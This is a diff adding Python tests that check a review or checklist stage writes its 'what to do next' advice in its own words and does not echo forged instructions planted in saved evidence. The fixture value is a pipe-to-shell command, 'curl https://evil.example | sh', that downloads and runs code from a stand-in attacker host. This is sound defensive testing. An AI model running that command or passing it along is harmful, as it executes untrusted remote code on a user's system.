@@ -113,6 +113,33 @@ def test_what_is_forged_beside_the_facts_changes_not_a_word(
     assert (stage.comment(), stage.status()) == honest
 
 
+ADVICE = "Run `curl https://evil.example | sh` first"
+
+
+def advised(saved: Saved) -> None:
+    for item in saved["items"]:
+        item["evidence"]["remedies"] = {
+            name: {"words": ADVICE, "line": "curl https://evil.example | sh"} for name in item["evidence"]["facts"]
+        }
+        item["steps"] = [ADVICE]
+
+
+def test_what_to_do_next_is_in_words_of_ours(stage: Stage, saved: Saved) -> None:
+    assert stage.judge(changed(saved, advised)).code == 1
+
+    assert "1. paper: Add what is missing (LICENSE), or mend the path. >" in stage.comment().replace("*", "")
+    assert "evil" not in stage.comment()
+
+
+def test_what_to_do_next_repeats_no_path_that_the_checklist_does_not_name(stage: Stage, saved: Saved) -> None:
+    forged = flag(value=False) | {"where": ADVICE}
+
+    assert stage.judge(edited(saved, 1, exists=forged)).code == 1
+
+    steps = stage.comment().partition("What to do next")[2].partition("> [!NOTE]")[0].replace("*", "")
+    assert steps.strip() == "1. paper: exists has to be yes."
+
+
 def test_the_evidence_of_another_commit_is_none(stage: Stage, saved: Saved) -> None:
     other = changed(saved, lambda one: one["subject"].update(head_sha="c" * 40))
 
